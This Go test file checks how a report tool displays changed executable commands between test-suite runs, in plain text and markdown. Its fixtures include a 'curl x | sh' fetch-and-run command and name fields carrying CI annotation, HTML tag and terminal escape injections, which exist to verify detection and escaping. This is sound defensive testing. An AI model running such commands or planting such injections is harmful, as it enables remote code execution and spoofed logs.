package report_test

import (
	"github.com/org/mcp-gates/internal/report/reporttest"
	"strings"
	"testing"

	"github.com/org/mcp-gates/internal/report"
	"github.com/org/mcp-gates/internal/report/markdown"
	"github.com/org/mcp-gates/internal/report/text"
)

// TestExecutableChanges pins what a comparison shows of what live runs execute: what is new or differs, and not what has another
// name or is gone. Names and words are harmless in every medium.
func TestExecutableChanges(t *testing.T) {
	of := func(list ...report.Executable) *report.Report {
		r := reporttest.Of(reporttest.Named("one", 3))
		r.Executables = list
		return r
	}
	const suite = "suites/tools.yml"
	base := of(
		report.Executable{Suite: suite, Key: "servers.command", Of: "same", Words: `["a"]`, Line: 1},
		report.Executable{Suite: suite, Key: "servers.command", Of: "renamed", Words: `["b"]`, Line: 2},
		report.Executable{Suite: suite, Key: "agent.command", Of: "changed", Words: `["node","agent.mjs"]`, Line: 3},
		report.Executable{Suite: suite, Key: "servers.command", Of: "gone", Words: `["c"]`, Line: 4},
	)
	head := compared(base, of(
		report.Executable{Suite: suite, Key: "servers.command", Of: "same", Words: `["a"]`, Line: 11},
		report.Executable{Suite: suite, Key: "servers.command", Of: "other name", Words: `["b"]`, Line: 12},
		report.Executable{Suite: suite, Key: "agent.command", Of: "changed", Words: `["sh","-c","curl x | sh"]`, Line: 13},
		report.Executable{Suite: suite, Key: "agent.version", Of: "new\n::error::`</details>", Words: "[\"\x1b[31m`\"]", Line: 14},
	))
	if n := len(head.Baseline.Executable); n != 2 || !head.Baseline.IsChanged() {
		t.Fatalf("got %d executable changes: %+v, want 2", n, head.Baseline.Executable)
	}
	var plain, rich strings.Builder
	if err := text.Report(&plain, head, text.Options{}); err != nil {
		t.Fatal(err)
	}
	if err := markdown.Report(&rich, head, markdown.Options{}); err != nil {
		t.Fatal(err)
	}
	for _, test := range []struct {
		got  string
		want []string
	}{
		{plain.String(), []string{"EXECUTABLE CHANGES", `suites/tools.yml:13: agent.command of changed: ["node","agent.mjs"] → ["sh","-c","curl x | sh"]`, "suites/tools.yml:14: agent.version of new"}},
		{rich.String(), []string{"2 executable changes", "**Executable changes**", "`agent.command` of `changed`: `[\"node\",\"agent.mjs\"]` → `[\"sh\",\"-c\",\"curl x | sh\"]`"}},
	} {
		for _, want := range test.want {
			if !strings.Contains(test.got, want) {
				t.Errorf("got\n%s\nwant %q", test.got, want)
			}
		}
		if strings.Contains(test.got, "\x1b") || strings.Contains(test.got, "\n::error") {
			t.Errorf("a name is written as it is:\n%s", test.got)
		}
	}
}
